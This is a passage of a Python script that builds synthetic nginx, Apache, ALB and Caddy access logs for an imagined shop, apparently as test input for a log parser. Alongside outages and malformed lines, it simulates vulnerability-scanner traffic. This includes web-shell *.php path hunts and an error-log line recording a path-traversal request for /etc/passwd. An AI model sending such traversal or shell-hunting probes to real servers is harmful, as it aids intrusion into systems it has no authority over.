        out += self.xhr(t + d.between(0, 2), client, page, url, first, logged_in)
        return out

    def xhr(
        self, t: int, client: Client, page: str, url: str, first: bool, logged_in: bool
    ) -> list[Request]:
        """The API calls a page makes."""
        d = self.dice
        path = page.split("?", 1)[0]
        out: list[Request] = []
        if first:
            out += self._api(t, client, "/api/v1/cart", url)
            if logged_in or d.chance(0.08):
                out += self._api(
                    t, client, "/api/v1/session", url, status=200 if logged_in else 401
                )
        if path in PRODUCT_IDS:
            pid = PRODUCT_IDS[path]
            out += self._api(t, client, f"/api/v1/products/{pid}/reviews?page=1", url)
            if d.chance(0.12):
                out += self._api(t, client, f"/api/v1/recommendations?for={pid}&limit=8", url)
            if d.chance(0.15):
                ok = not d.chance(0.03)
                out += self._api(
                    t + d.between(3, 40),
                    client,
                    "/api/v1/cart/items",
                    url,
                    method="POST",
                    status=201 if ok else 400,
                )
            if pid == 1042 and d.chance(0.25):  # the demo video, fetched in ranges
                for _ in range(d.between(1, 3)):
                    t += d.between(1, 20)
                    out.append(
                        self.new_request(
                            t,
                            client,
                            "/media/x200-demo.mp4",
                            status=206,
                            kind="media",
                            referer=url,
                            size=d.between(65536, 2097152),
                        )
                    )
        elif path.startswith("/search"):
            q = page.split("q=", 1)[1].split("&", 1)[0]
            out += self._api(t, client, f"/api/v1/search?q={q}&page=1", url)
        elif path == "/cart" and d.chance(0.4):
            item = f"/api/v1/cart/items/{d.between(88000, 88999)}"
            if d.chance(0.5):
                out += self._api(t + d.between(2, 30), client, item, url, method="PUT")
            else:
                out += self._api(
                    t + d.between(2, 30),
                    client,
                    item,
                    url,
                    method="DELETE",
                    status=204 if d.chance(0.95) else 404,
                )
        elif path == "/checkout" and d.chance(0.6):
            ok = not d.chance(0.05)
            t += d.between(20, 120)
            out += self._api(
                t, client, "/api/v1/checkout", url, method="POST", status=201 if ok else 400
            )
            if ok:
                order = d.between(12000, 13999)
                out.append(
                    self.new_request(
                        t + 1, client, f"/checkout/confirmation?order={order}", referer=url
                    )
                )
        elif path == "/login" and d.chance(0.5):
            status = 302 if d.chance(0.85) else 200
            out.append(
                self.new_request(
                    t + d.between(5, 30),
                    client,
                    "/login",
                    method="POST",
                    status=status,
                    referer=url,
                )
            )
        elif path == "/about" and d.chance(0.1):
            out.append(
                self.new_request(
                    t + d.between(2, 30),
                    client,
                    "/downloads/catalogue-2026.pdf",
                    kind="media",
                    referer=url,
                )
            )
        return out

    def app_session(self, ts: int) -> list[Request]:
        """The mobile app: JSON API calls and product images, no referers."""
        d = self.dice
        client = self.apps.draw(d)
        out: list[Request] = []
        t = ts

        def call(target: str, **kw: object) -> None:
            kw.setdefault("kind", "api")
            out.append(self.new_request(t, client, target, host=self.api_host, **kw))

        call("/api/v1/session", status=200 if d.chance(0.9) else 401)
        for _ in range(d.between(1, 4)):
            t += d.between(2, 40)
            pid, _slug = d.pick(PRODUCTS)
            if d.chance(0.4):
                call(f"/api/v1/products?category=coffee&limit=24&offset={24 * d.below(4)}")
            call(f"/api/v1/products/{pid}")
            call(
                f"/images/products/{pid}-640w.webp",
                kind="static",
                status=304 if d.chance(0.3) else 200,
            )
        if d.chance(0.25):
            t += d.between(5, 60)
            call("/api/v1/cart/items", method="POST", status=201)
            if d.chance(0.5):
                t += d.between(20, 120)
                order = d.between(12000, 13999)
                call("/api/v1/orders", method="POST", status=201)
                t += d.between(2, 15)
                declined = d.chance(0.04)
                call("/api/v1/payments", method="POST", status=400 if declined else 201)
                t += d.between(1, 5)
                call(f"/api/v1/orders/{order}")
        if d.chance(0.1):
            call(f"/api/v1/orders/{d.between(12000, 13999)}", status=200 if d.chance(0.8) else 404)
        if d.chance(0.04):
            call("/downloads/catalogue-2026.pdf", kind="media")
        return [self.finish(r) for r in out]

    def crawl(self, ts: int) -> list[Request]:
        """A search-engine or AI crawler fetching a few pages."""
        d = self.dice
        _name, agent, prefixes = BOTS.draw(d)
        client = Client(
            f"{d.pick(prefixes)}{d.between(1, 254)}",
            agent,
            "HTTP/1.1" if d.chance(0.7) else "HTTP/2.0",
        )
        out: list[Request] = []
        t = ts
        if d.chance(0.25):
            out.append(self.new_request(t, client, "/robots.txt", kind="static"))
            t += d.between(1, 5)
        if d.chance(0.1):
            out.append(
                self.new_request(
                    t, client, "/sitemap.xml", kind="static", status=304 if d.chance(0.3) else 200
                )
            )
            t += d.between(1, 5)
        for _ in range(d.between(1, 5)):
            if d.chance(0.08):
                out.append(
                    self.new_request(t, client, d.pick(OLD_URLS), status=d.pick((301, 404, 404)))
                )
            else:
                r = d.unit()
                status = 304 if r < 0.06 else 404 if r < 0.09 else 200
                out.append(self.new_request(t, client, PAGES.draw(d), status=status))
            t += d.between(2, 40)
        return [self.finish(r) for r in out]

    def script(self, ts: int) -> list[Request]:
        """curl, python-requests, Go and wget: API users, a rate-limited scraper, a partner."""
        d = self.dice
        out: list[Request] = []
        kind = d.below(6)
        if kind == 0:  # a scraper paging through products, rate limited after a while
            client = Client("203.0.113.50", "python-requests/2.32.3", "HTTP/1.1")
            for i in range(d.between(6, 30)):
                limited = i >= 10 and d.chance(0.5)
                out.append(
                    self.new_request(
                        ts + i,
                        client,
                        f"/api/v1/products?page={i + 1}&per_page=50",
                        kind="api",
                        status=429 if limited else 200,
                        host=self.api_host,
                    )
                )
        elif kind == 1:  # a developer with curl
            client = Client("192.0.2.44", "curl/8.5.0", d.pick(("HTTP/1.1", "HTTP/2.0")))
            for method, target, statuses in (
                ("GET", "/api/v1/orders/12345", (200, 200, 401, 404)),
                ("PUT", "/api/v1/orders/12345", (200, 200, 400, 403)),
                ("DELETE", "/api/v1/cart/items/88123", (204, 204, 404)),
                ("OPTIONS", "/api/v1/orders", (204, 405)),
                ("HEAD", "/", (200,)),
            )[: d.between(1, 5)]:
                out.append(
                    self.new_request(
                        ts,
                        client,
                        target,
                        method=method,
                        kind="api" if target != "/" else "page",
                        status=d.pick(statuses),
                        host=self.api_host,
                    )
                )
                ts += d.between(3, 90)
        elif kind == 2:  # a partner's integration polling orders
            client = Client("2001:db8:4::15", "Go-http-client/1.1", "HTTP/1.1")
            status = 401 if d.chance(0.08) else 200
            out.append(
                self.new_request(
                    ts,
                    client,
                    "/api/v1/orders?since=2026-11-20T00%3A00%3A00Z&limit=100",
                    kind="api",
                    status=status,
                    host=self.api_host,
                )
            )
        elif kind == 3:
            client = Client(ipv4(d), "Wget/1.21.4", "HTTP/1.1")
            out.append(self.new_request(ts, client, "/downloads/catalogue-2026.pdf", kind="media"))
        elif kind == 4:  # a price scraper whose agent has quotes in it
            client = Client("198.51.100.140", d.pick((QUOTED_AGENT, SCRAPER_AGENT)), "HTTP/1.1")
            for _ in range(d.between(1, 6)):
                out.append(
                    self.new_request(
                        ts,
                        client,
                        f"/products/{d.pick(PRODUCTS)[1]}",
                        status=200 if d.chance(0.9) else 404,
                    )
                )
                ts += d.between(1, 8)
        else:  # the admin area behind basic auth: first try without credentials
            client = browser_client(d)
            user = d.pick(("alice", "bob"))
            out.append(self.new_request(ts, client, "/admin/", status=401))
            wrong = d.chance(0.2)
            out.append(
                self.new_request(ts + 4, client, "/admin/", status=401 if wrong else 200, user=user)
            )
            if not wrong:
                out.append(
                    self.new_request(
                        ts + d.between(5, 60),
                        client,
                        "/admin/stats?range=7d",
                        user=user,
                        referer=f"https://{self.host}/admin/",
                    )
                )
        return [self.finish(r) for r in out]

    def probe(self, ts: int) -> list[Request]:
        """A vulnerability scanner trying a few well-known paths."""
        d = self.dice
        client = Client(d.pick(SCANNER_ADDRS), SCANNER_AGENTS.draw(d), "HTTP/1.1")
        out = []
        for _ in range(d.between(1, 5)):
            method, target, protocol, on_nginx, on_apache = d.pick(PROBES)
            status = on_nginx if self.server == "nginx" else on_apache
            kind = "page" if status == 200 else "probe"
            out.append(
                self.new_request(
                    ts, client, target, method=method, protocol=protocol, status=status, kind=kind
                )
            )
            ts += d.below(3)
        return [self.finish(r) for r in out]

    def health_check(self, ts: int) -> list[Request]:
        client = Client("10.0.0.5", "ELB-HealthChecker/2.0", "HTTP/1.1")
        return [self.finish(self.new_request(ts, client, "/healthz", kind="health"))]

    def uptime_check(self, ts: int) -> list[Request]:
        client = Client(
            self.dice.pick(("192.0.2.200", "192.0.2.201")),
            "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
            "HTTP/1.1",
        )
        return [self.finish(self.new_request(ts, client, "/", method="HEAD"))]

    # ---- oddities that are valid lines

    def tls_handshake(self, ts: int, client: str) -> Request:
        """A TLS ClientHello sent to a plain-HTTP port: logged with status 400."""
        if self.server == "apache":
            raw = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
        else:  # nginx's escape=json leaves bytes >= 0x80 raw, so keep them out of the JSON file
            raw = b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03"
        r = Request(ts=ts, client=client, status=400, kind="junk", raw_request=raw, host="_")
        return self.finish(r)

    def empty_request(self, ts: int, client: str) -> Request:
        """A connection closed before a request line arrived: ``"-"``."""
        status = 400 if self.server == "nginx" else 408
        return self.finish(
            Request(ts=ts, client=client, status=status, kind="junk", raw_request=b"", host="_")
        )

    # ---- the server's side: sizes, timings, upstreams

    def finish(self, r: Request) -> Request:
        """Fill in what the server decides: baseline failures, body size, timing."""
        d = self.dice
        if r.status in (200, 201) and r.kind in ("page", "api") and not r.burst:
            x = d.unit()
            if x < 0.0025:
                r.status = 500
            elif x < 0.0035:
                r.status = 502
            elif x < 0.0042:
                r.status = 503
            elif x < 0.0048:
                r.status = 504
            elif x < 0.009 and self.server == "nginx":
                r.status = 499  # the client gave up
        elif (
            r.status in (200, 206)
            and r.kind in ("static", "media")
            and self.server == "nginx"
            and d.chance(0.004 if r.kind == "static" else 0.05)
        ):
            r.status, r.size = 499, None  # a client abandoned a download: no upstream
        if r.size is None:
            r.size = self.body_size(r)
        if r.raw_request == b"":
            r.header_bytes = 0
        else:
            r.header_bytes = d.between(140, 220) if r.status == 304 else d.between(180, 460)
        self.time_it(r)
        return r

    def body_size(self, r: Request) -> int:
        d = self.dice
        if r.status == 101:
            return d.between(400, 60000)  # websocket frames sent to the client
        if r.method == "HEAD" or r.status in (204, 304, 444, 499) or r.raw_request == b"":
            return 0
        pages = NGINX_PAGES if self.server == "nginx" else APACHE_PAGES
        if r.status >= 300:
            from_app = r.kind in ("page", "api") and r.status in (302, 400, 401, 404, 500, 503)
            if r.kind == "api" and from_app:
                return d.between(38, 160)
            if r.kind == "page" and r.status == 404 and from_app:
                return d.between(5200, 6900)
            if r.status == 302:
                return 0 if self.server == "nginx" else pages[302]
            return pages.get(r.status, 150)
        if r.path in STATIC_SIZES:
            return STATIC_SIZES[r.path]
        if r.path.startswith("/images/products/"):
            return 12000 + sum(r.path.encode()) * 61 % 50000
        if r.kind == "health":
            return 2
        if r.kind == "api":
            if r.method == "OPTIONS" or r.status == 204:
                return 0
            if r.path.startswith("/api/v1/products") and "?" in r.target:
                return d.between(6000, 14000)
            return d.between(60, 2400)
        return 7000 + sum(r.path.encode()) * 53 % 38000 + d.between(0, 600)

    def proxied(self, r: Request) -> bool:
        if r.path.startswith("/downloads/") and r.status in (200, 206):
            return True  # the app authorises, then X-Accel-Redirect to the file store
        if r.kind not in ("page", "api", "ws", "health") or r.raw_request is not None:
            return False
        if r.method == "OPTIONS" and r.status == 204:
            return False  # answered by nginx's CORS block
        return r.status not in (301, 405, 429, 444)

    def _degradation(self, ts: int) -> Degradation | None:
        for g in self.degradations:
            if g.start <= ts < g.end:
                return g
        return None

    def service_ms(self, r: Request) -> int:
        d = self.dice
        p = r.path
        if p == "/healthz":
            ms = d.between(1, 3)
        elif p.startswith("/api/v1/search") or p.startswith("/search"):
            ms = d.between(40, 420)
        elif r.method == "POST" and p.startswith(
            ("/api/v1/checkout", "/api/v1/payments", "/api/v1/orders")
        ):
            ms = d.between(180, 900)
        elif r.kind == "page":
            ms = d.between(25, 180)
        else:
            ms = d.between(2, 60)
        if d.chance(0.02):
            ms *= d.between(3, 12)
        return ms

    def pool(self, r: Request) -> Sequence[str]:
        if r.path.startswith("/api/v1/search"):
            return SEARCH_POOL
        if r.path.startswith("/api/v1/payments"):
            return PAYMENTS_POOL
        return APP_POOL

    def time_it(self, r: Request) -> None:
        """request_time, upstream_response_time and upstream_addr, as nginx would log them."""
        d = self.dice
        if not self.proxied(r):
            r.upstream = ()
            if r.status == 444 or r.raw_request is not None:
                r.request_ms = d.below(2) if r.raw_request is None else d.between(0, 5000)
            elif r.status == 499:
                r.request_ms = d.between(200, 8000)
            else:
                r.request_ms = (r.size or 0) // d.between(1000, 20000) + d.below(3)
            return
        incident = self._degradation(r.ts)
        pool = self.pool(r)
        addr = d.pick(pool)
        if incident and d.chance(0.6):
            addr = incident.failing  # least_conn keeps feeding the backend that fails fast
        if r.status == 101:
            ms = d.between(20000, 900000)
            r.upstream = (((addr, ms),),)
            r.request_ms = ms + d.below(3)
            return
        if r.status == 499:
            r.request_ms = d.between(1500, 20000)
            r.upstream = (((addr, r.request_ms - d.below(2)),),)
            return
        if r.status == 504:
            r.upstream = (((addr, 60000 + d.below(5)),),)
        elif r.status == 502 and incident:
            r.upstream = (((incident.failing, d.between(800, 4500)),),)
        elif r.status == 502:
            other = d.pick([a for a in pool if a != addr] or [addr])
            r.upstream = (((addr, d.below(2)), (other, d.below(2))),)
        else:
            ms = self.service_ms(r) * (incident.slowdown if incident else 1)
            attempts: tuple[Attempt, ...] = ((addr, ms),)
            download = r.path.startswith("/downloads/")
            if d.chance(
                0.1 if download else 0.01
            ):  # a peer refused or timed out, the next answered
                first = d.pick([a for a in pool if a != addr] or [addr])
                attempts = ((first, d.pick((0, 1, 3001))), (addr, ms))
            r.upstream = (attempts,)
            if download:  # internal redirect: a second group
                transfer = (r.size or 0) // d.between(1000, 20000)
                r.upstream = (attempts, ((FILES_UPSTREAM, d.between(5, 60) + transfer),))
        r.request_ms = sum(ms for group in r.upstream for _, ms in group) + d.below(3)


# ------------------------------------------------------------------ timelines


@dataclass(frozen=True)
class Window:
    start: int  # Unix seconds, included
    end: int  # excluded
    tz: timezone


def minute_table(window: Window) -> Weighted[int]:
    """Start of each minute of the window, weighted by the diurnal curve."""
    rows = []
    for ts in range(window.start, window.end, 60):
        d = local_time(ts, window.tz)
        weight = HOURLY[d.hour] * (60 - d.minute) + HOURLY[(d.hour + 1) % 24] * d.minute
        rows.append((ts, float(weight)))
    return Weighted(rows)


def traffic(
    dice: Dice, window: Window, mix: Weighted[Callable[[int], list[Request]]], lines: int
) -> list[Request]:
    """Random events at diurnal times until about ``lines`` requests fall in the window."""
    minutes = minute_table(window)
    out: list[Request] = []
    while len(out) < lines:
        ts = minutes.draw(dice) + dice.below(60)
        event = mix.draw(dice)
        out += [r for r in event(ts) if window.start <= r.ts < window.end]
    return out


def every(
    dice: Dice, window: Window, period: int, event: Callable[[int], list[Request]]
) -> list[Request]:
    """A scheduled event (health checks), with a second of jitter."""
    out: list[Request] = []
    for ts in range(window.start + dice.below(period), window.end, period):
        out += event(min(ts + dice.below(2), window.end - 1))
    return out


# ------------------------------------------------------------------ bursts


@dataclass(frozen=True)
class Outage:
    """Requests to one endpoint failing for a few minutes; clients retry."""

    name: str
    start: int
    end: int
    method: str
    path: str
    codes: Weighted[int]
    share: float  # of ordinary requests in the window replaced by a failing one
    per_minute: tuple[int, int]  # extra failing requests each minute (users stuck on it)
    referer: str = ""


def inject_outage(site: Site, records: list[Request], outage: Outage) -> list[Request]:
    """Failures of one endpoint: a share of the window's requests turn into them, a steady
    trickle of users stuck on it adds more, and clients retry."""
    d = site.dice
    failing: list[Request] = []
    for r in records:
        if (
            not (outage.start <= r.ts < outage.end)
            or r.burst
            or r.kind not in ("page", "static", "api", "media")
        ):
            continue
        if r.agent.startswith("ELB") or not d.chance(outage.share):
            continue
        failing.append(r)
    added: list[Request] = []
    for minute in range(outage.start, outage.end, 60):
        for _ in range(d.between(*outage.per_minute)):
            client = site.visitors.draw(d) if d.chance(0.6) else site.apps.draw(d)
            referer = outage.referer if client.agent.startswith("Mozilla") else ""
            added.append(
                site.new_request(minute + d.below(60), client, outage.path, referer=referer)
            )
    for r in failing + added:
        r.method = outage.method
        r.target = outage.path
        if outage.path.startswith("/api/v1/search"):
            r.target = f"{outage.path}?q={d.pick(SEARCHES)}&page=1"
        r.kind, r.burst, r.size, r.user = "api", outage.name, None, ""
        r.protocol = r.protocol if r.protocol != "HTTP/1.0" else "HTTP/1.1"
        r.status = outage.codes.draw(d)
        r.referer = outage.referer if outage.referer and r.referer else r.referer
        site.finish(r)
        t = r.ts
        for _ in range(d.pick((0, 1, 1, 2))):
            t += d.between(2, 8)
            if t >= outage.end:
                break
            again = dataclasses.replace(r, ts=t, status=outage.codes.draw(d), size=None)
            added.append(site.finish(again))
    return records + added


def scanner_burst(site: Site, start: int, end: int, client: str) -> list[Request]:
    """One address requesting random ``*.php`` paths, one to three a second: all 404."""
    d = site.dice
    agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36"
    out = []
    for ts in range(start, end):
        for _ in range(d.between(1, 3)):
            name = d.pick(SHELL_NAMES)
            if d.chance(0.3):
                name += str(d.between(1, 99))
            target = f"{d.pick(SHELL_DIRS)}/{name}.php"
            method = "POST" if d.chance(0.15) else "GET"
            r = Request(
                ts=ts,
                client=client,
                agent=agent,
                method=method,
                target=target,
                status=404,
                kind="probe",
                burst="scanner",
            )
            out.append(site.finish(r))
    return out


# ------------------------------------------------------------------ malformed lines


@dataclass(frozen=True)
class Junk:
    """A line a parser must reject, written just after the lines up to ``ts``."""

    ts: int
    kind: str  # empty, truncated, error_log, binary
    data: bytes


BINARY_GARBAGE = b"\x00\xff\xfe garbage \x80"


def truncated_line(site: Site, ts: int, formatter: Formatter, tz: timezone) -> Junk:
    """A browser request's line cut in the middle of its User-Agent (or request line)."""
    d = site.dice
    client = site.visitors.draw(d)
    r = site.finish(site.new_request(ts, client, PAGES.draw(d)))
    line = formatter(r, tz)
    cut_field = r.agent.encode() if b'"' + r.agent.encode() in line else r.request_line()
    start = line.rfind(cut_field)
    return Junk(ts, "truncated", line[: start + len(cut_field) // 2])


def nginx_error_line(ts: int, tz: timezone, client: str, pid: int, conn: int) -> Junk:
    d = local_time(ts, tz)
    text = (
        f"{d.year}/{d.month:02d}/{d.day:02d} {d.hour:02d}:{d.minute:02d}:{d.second:02d} [error] "
        f"{pid}#{pid}: *{conn} upstream timed out (110: Connection timed out) while reading "
        f"response header from upstream, client: {client}, server: www.example.com, request: "
        f'"GET /api/v1/search?q=decaf&page=1 HTTP/2.0", upstream: '
        f'"http://10.0.2.21:8080/api/v1/search?q=decaf&page=1", host: "www.example.com"'
    )
    return Junk(ts, "error_log", text.encode())


def apache_error_line(ts: int, tz: timezone, client: str) -> Junk:
    d = local_time(ts, tz)
    stamp = f"{WEEKDAYS[d.weekday()]} {MONTHS[d.month - 1]} {d.day:02d} {d.hour:02d}:{d.minute:02d}:{d.second:02d}.482913 {d.year}"
    text = (
        f"[{stamp}] [core:error] [pid 2187:tid 140231466247744] [client {client}:51234] "
        "AH00126: Invalid URI in request GET /..%2f..%2f..%2fetc/passwd HTTP/1.1"
    )
    return Junk(ts, "error_log", text.encode())


# ------------------------------------------------------------------ files


@dataclass
class Built:
    """What a file builder produces, before it is written."""

    records: list[Request]
    junk: list[Junk]
    bursts: list[dict[str, object]] = field(default_factory=list)
    swaps: int = 0  # adjacent lines written a second out of order (nginx's cached clock)
    crlf: int = 0  # lines ending in CRLF


@dataclass(frozen=True)
class LogSpec:
    name: str
    description: str
    server: str
    format: str  # named format, or the format string
    format_string: str
    formatter: Formatter
    window: Window
    build: Callable[[LogSpec], Built]
    seed: int
    gzip: bool = False


# About how many lines each file gets (the size of the output is proportional).
LINES = {
    "nginx_access.log": 12000,
    "nginx_access.log.2.gz": 4000,
    "nginx_timed.log": 3000,
    "apache_common.log": 3000,
    "apache_vhost_combined.log": 1500,
    "nginx_json.log": 1500,
    "alb_access.log": 800,
    "caddy_access.log": 800,
}

CET = timezone(timedelta(hours=1))
EST = timezone(timedelta(hours=-5))


def burst_entry(
    records: list[Request], name: str, kind: str, start: int, end: int, path: str, **extra: str
) -> dict[str, object]:
    hit = [r for r in records if r.burst == name]
    lo, hi = (500, 599) if kind == "5xx" else (400, 499)
    codes = sorted({r.status for r in hit if lo <= r.status <= hi})
    errors = sum(1 for r in hit if lo <= r.status <= hi)
    return {
        "kind": kind,
        "start": iso_utc(start),
        "end": iso_utc(end),
        "codes": codes,
        "path": path,
        **extra,
        "error_lines": errors,
    }


def build_nginx_access(spec: LogSpec) -> Built:
    w, tz = spec.window, spec.window.tz
    dice = Dice(spec.seed)
    site = Site(dice, server="nginx")
    mix = Weighted(
        [
            (site.visit, 52),
            (site.app_session, 20),
            (site.crawl, 14),
            (site.script, 6),
            (site.probe, 4),
        ]
    )
    day = "2026-11-20"
    records = every(dice, w, 60, site.health_check) + every(dice, w, 300, site.uptime_check)
    records += traffic(dice, w, mix, LINES[spec.name] - len(records) - 700)  # 700: bursts
    a_start, a_end = at(day, "14:05:00", tz), at(day, "14:17:00", tz)
    b_start, b_end = at(day, "20:42:00", tz), at(day, "20:48:00", tz)
    s_start, s_end = at(day, "03:40:00", tz), at(day, "03:45:00", tz)
    records = inject_outage(
        site,
        records,
        Outage(
            "checkout",
            a_start,
            a_end,
            "POST",
            "/api/v1/checkout",
            Weighted([(503, 9), (502, 1)]),
            0.25,
            (6, 10),
            "https://www.example.com/checkout",
        ),
    )
    records = inject_outage(
        site,
        records,
        Outage(
            "search",
            b_start,
            b_end,
            "GET",
            "/api/v1/search",
            Weighted([(504, 1)]),
            0.25,
            (6, 10),
            "https://www.example.com/search",
        ),
    )
    scanner = "203.0.113.195"
    records += scanner_burst(site, s_start, s_end, scanner)
    records += [
        site.tls_handshake(at(day, "05:17:09", tz), "198.51.100.201"),
        site.empty_request(at(day, "11:02:33", tz), "192.0.2.250"),
        site.tls_handshake(at(day, "16:44:51", tz), "2001:db8:bad:1::66"),
    ]
    junk = [
        Junk(at(day, "01:47:12", tz), "empty", b""),
        nginx_error_line(at(day, "03:12:45", tz), tz, "192.0.2.10", 1234, 5678),
        truncated_line(site, at(day, "09:31:05", tz), spec.formatter, tz),
        Junk(at(day, "17:58:40", tz), "binary", BINARY_GARBAGE),
        Junk(at(day, "22:10:03", tz), "empty", b""),
    ]
    bursts = [
        burst_entry(records, "scanner", "4xx", s_start, s_end, "/*.php", client=scanner),
        burst_entry(records, "checkout", "5xx", a_start, a_end, "/api/v1/checkout"),
        burst_entry(records, "search", "5xx", b_start, b_end, "/api/v1/search"),
    ]
    return Built(records, junk, bursts, swaps=8)


def build_nginx_rotated(spec: LogSpec) -> Built:
    w, tz = spec.window, spec.window.tz
    dice = Dice(spec.seed)
    site = Site(dice, server="nginx", visitors=400)
    mix = Weighted(
        [
            (site.visit, 50),
            (site.app_session, 12),
            (site.crawl, 20),
            (site.script, 6),
            (site.probe, 6),
        ]
    )
    day = "2026-11-19"
    records = every(dice, w, 300, site.uptime_check)
    records += traffic(dice, w, mix, LINES[spec.name] - len(records))
    records.append(site.empty_request(at(day, "07:21:40", tz), "203.0.113.77"))
    junk = [
        nginx_error_line(at(day, "13:02:11", tz), tz, "81.2.69.142", 1236, 2291),
        truncated_line(site, at(day, "19:45:30", tz), spec.formatter, tz),
        Junk(at(day, "21:03:09", tz), "binary", BINARY_GARBAGE),
    ]
    return Built(records, junk, swaps=3)


def build_nginx_timed(spec: LogSpec) -> Built:
    w, tz = spec.window, spec.window.tz
    dice = Dice(spec.seed)
    site = Site(dice, server="nginx", visitors=500, apps=500)
    day = "2026-11-20"
    p_start, p_end = at(day, "16:20:00", tz), at(day, "16:30:00", tz)
    site.degradations.append(Degradation(p_start, p_end, "10.0.1.13:8080", 4))
    mix = Weighted(
        [
            (site.app_session, 55),
            (site.visit, 22),
            (site.crawl, 6),
            (site.script, 8),
            (site.probe, 3),
        ]
    )
    records = every(dice, w, 30, site.health_check)
    records += traffic(dice, w, mix, LINES[spec.name] - len(records) - 200)  # 200: the burst
    records = inject_outage(
        site,
        records,
        Outage(
            "payments",
            p_start,
            p_end,
            "POST",
            "/api/v1/payments",
            Weighted([(502, 1)]),
            0.25,
            (5, 9),
        ),
    )
    records += [
        site.tls_handshake(at(day, "13:26:02", tz), "198.51.100.201"),
        site.empty_request(at(day, "15:09:47", tz), "203.0.113.77"),
    ]
    junk = [
        truncated_line(site, at(day, "12:48:19", tz), spec.formatter, tz),
        nginx_error_line(at(day, "14:33:05", tz), tz, "89.160.20.112", 1240, 88412),
        Junk(at(day, "15:51:27", tz), "empty", b""),
        Junk(at(day, "17:12:56", tz), "binary", BINARY_GARBAGE),
    ]
    bursts = [
        burst_entry(
            records,
            "payments",
            "5xx",
            p_start,
            p_end,
            "/api/v1/payments",
            upstream="10.0.1.13:8080",
        )
    ]
    return Built(records, junk, bursts, swaps=4)


def build_apache_common(spec: LogSpec) -> Built:
    w, tz = spec.window, spec.window.tz
    dice = Dice(spec.seed)
    site = Site(
        dice,
        server="apache",
        host="www.example.net",
        api_host="www.example.net",
        visitors=300,
        apps=50,
    )
    mix = Weighted(
        [
            (site.visit, 45),
            (site.crawl, 25),
            (site.script, 8),
            (site.probe, 10),
            (site.app_session, 4),
        ]
    )
    records = every(dice, w, 900, site.uptime_check)
    records += traffic(dice, w, mix, LINES[spec.name] - len(records))
    records += [
        site.tls_handshake(at("2026-11-19", "22:14:37", tz), "198.51.100.201"),
        site.empty_request(at("2026-11-20", "04:40:12", tz), "192.0.2.250"),
        site.empty_request(at("2026-11-20", "13:05:59", tz), "203.0.113.77"),
    ]
    junk = [
        Junk(at("2026-11-19", "09:12:30", tz), "empty", b""),
        apache_error_line(at("2026-11-19", "18:40:02", tz), tz, "203.0.113.77"),
        truncated_line(site, at("2026-11-20", "10:27:44", tz), spec.formatter, tz),
        Junk(at("2026-11-20", "20:02:18", tz), "binary", BINARY_GARBAGE),
    ]
    return Built(records, junk, crlf=6)


def build_apache_vhost(spec: LogSpec) -> Built:
    w, tz = spec.window, spec.window.tz
    dice = Dice(spec.seed)
    site = Site(
        dice,
        server="apache",
        host="www.example.org",
        api_host="api.example.org",
        visitors=300,
        apps=200,
    )
    mix = Weighted(
        [
            (site.visit, 40),
            (site.app_session, 25),
            (site.crawl, 15),
            (site.script, 8),
            (site.probe, 8),
        ]
    )
    records = traffic(dice, w, mix, LINES[spec.name])
    day = "2026-11-20"
    empty = site.empty_request(at(day, "06:55:21", tz), "192.0.2.250")
    plain = Client("203.0.113.77", "", "HTTP/1.1")  # plain HTTP spoken to the TLS port
    records += [
        empty,
        site.finish(
            site.new_request(at(day, "12:31:08", tz), plain, "/", status=400, kind="probe")
        ),
    ]
    junk = [
        apache_error_line(at(day, "02:03:44", tz), tz, "192.0.2.250"),
        Junk(at(day, "08:19:00", tz), "empty", b""),
        truncated_line(site, at(day, "15:36:27", tz), spec.formatter, tz),
        Junk(at(day, "19:47:13", tz), "binary", BINARY_GARBAGE),
    ]
    for r in records:
        r.host = r.host if r.host in ("www.example.org", "api.example.org") else "www.example.org"
    return Built(records, junk)


def build_nginx_json(spec: LogSpec) -> Built:
    w, tz = spec.window, spec.window.tz
    dice = Dice(spec.seed)
    site = Site(dice, server="nginx", api_host="api.example.com", visitors=300, apps=300)
    mix = Weighted(
        [
            (site.visit, 35),
            (site.app_session, 40),
            (site.crawl, 12),
            (site.script, 8),
            (site.probe, 5),
        ]
    )
    records = traffic(dice, w, mix, LINES[spec.name])
    day = "2026-11-20"
    for r in records:
        if r.kind == "probe" and dice.chance(0.5):
            r.host = "198.51.100.10"  # scanners asking for the server's address
    tls = site.tls_handshake(at(day, "10:41:16", tz), "198.51.100.201")
    tls.raw_request = b"\x16\x03\x01\x00\x7a\x01\x00\x00\x76\x03\x03"  # only bytes < 0x80
    records += [tls, site.empty_request(at(day, "18:22:07", tz), "192.0.2.250")]
    junk = [
        Junk(at(day, "09:58:31", tz), "binary", BINARY_GARBAGE),
        truncated_line(site, at(day, "13:14:15", tz), spec.formatter, tz),
        nginx_error_line(at(day, "16:07:52", tz), tz, "175.16.199.4", 1238, 40117),
        Junk(at(day, "19:30:00", tz), "empty", b""),
    ]
    return Built(records, junk, swaps=3)


def _proxy_site(spec: LogSpec) -> tuple[Dice, Site, list[Request]]:
    """Traffic of the shop behind a load balancer or Caddy (no raw TLS junk: they answer it)."""
    dice = Dice(spec.seed)
    site = Site(dice, server="nginx", api_host="api.example.com", visitors=200, apps=200)
    mix = Weighted(
        [
            (site.visit, 40),
            (site.app_session, 35),
            (site.crawl, 12),
            (site.script, 8),
            (site.probe, 5),
        ]
    )
    records = [r for r in traffic(dice, spec.window, mix, LINES[spec.name]) if r.kind != "junk"]
    return dice, site, records


def build_alb(spec: LogSpec) -> Built:
    tz = spec.window.tz
    _, site, records = _proxy_site(spec)
    day = "2026-11-20"
    junk = [
        truncated_line(site, at(day, "09:17:03", tz), spec.formatter, tz),
        Junk(at(day, "11:40:00", tz), "empty", b""),
        Junk(at(day, "10:02:51", tz), "binary", BINARY_GARBAGE),
    ]
    return Built(records, junk)


def build_caddy(spec: LogSpec) -> Built:
    tz = spec.window.tz
    _, site, records = _proxy_site(spec)
    day = "2026-11-20"
    junk = [
        Junk(at(day, "13:05:44", tz), "binary", BINARY_GARBAGE),
        truncated_line(site, at(day, "14:31:19", tz), spec.formatter, tz),
        Junk(at(day, "15:58:02", tz), "empty", b""),
    ]
    return Built(records, junk)


SPECS = (
    LogSpec(
        "nginx_access.log",
